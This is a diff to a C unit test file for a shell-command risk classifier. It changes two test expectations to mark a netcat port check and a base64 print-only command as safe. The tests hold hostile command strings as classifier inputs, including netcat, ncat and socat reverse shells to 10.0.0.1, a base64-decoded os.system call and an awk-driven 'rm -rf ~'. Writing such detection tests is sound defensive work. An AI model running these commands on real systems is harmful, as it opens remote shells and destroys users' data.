@@ -408,7 +408,7 @@ Test(shell_classes, reverse_shells_are_shells_fed_unseen_text)
     shellt_expect("ncat -lk 9000 --sh-exec 'bash'", CRIT, "critical.shell_unseen_text");
     shellt_expect("nc -e /bin/sh 10.0.0.1 9001", CRIT, "critical.shell_unseen_text");
     shellt_expect("socat TCP:10.0.0.1:9001 EXEC:/bin/bash,pty", CRIT, "critical.shell_unseen_text");
-    shellt_expect("nc -zv example.com 443", DESTR, "bash.network_send");
+    shellt_expect("nc -zv example.com 443", SAFE, NULL);                 /* a port check (main) */
     shellt_expect("bash build.sh 2>&1", RISKY, NULL);
 }
 
@@ -431,7 +431,7 @@ Test(shell_classes, inline_code_home_spellings_and_decoded_commands)
                   "critical.code_signal");
     shellt_expect("python3 -c \"import base64,os; os.system(base64.b64decode('eA==').decode())\"", CRIT,
                   "critical.shell_unseen_text");
-    shellt_expect("python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'", RISKY, "bash.interpreter");
+    shellt_expect("python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'", SAFE, NULL);   /* prints only */
     shellt_expect("awk -v c='rm -rf ~' 'BEGIN{system(c)}'", CRIT, "critical.rm_home");
     shellt_expect("awk -v n=3 'NR<n' f.txt", SAFE, NULL);
 }
